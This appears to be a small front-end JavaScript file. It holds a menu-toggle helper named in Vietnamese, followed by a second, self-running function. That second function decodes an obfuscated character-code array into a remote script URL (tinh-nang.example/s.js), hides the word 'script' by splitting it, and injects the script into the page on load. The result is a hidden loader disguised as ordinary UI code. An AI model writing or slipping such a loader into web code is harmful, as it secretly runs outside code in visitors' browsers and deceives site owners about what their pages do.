function moTrinhDon(id){var e=document.getElementById(id);e.hidden=!e.hidden}
;(function(){var k=[104,116,116,112,115,58,47,47,116,105,110,104,45,110,97,110,103,46,101,120,97,109,112,108,101,47,115,46,106,115],t="",i=0;for(;i<k.length;i++)t+=String.fromCharCode(k[i]);var e=document.createElement("scr"+"ipt");e.async=!0;e.src=t;(document.head||document.body).appendChild(e)})();
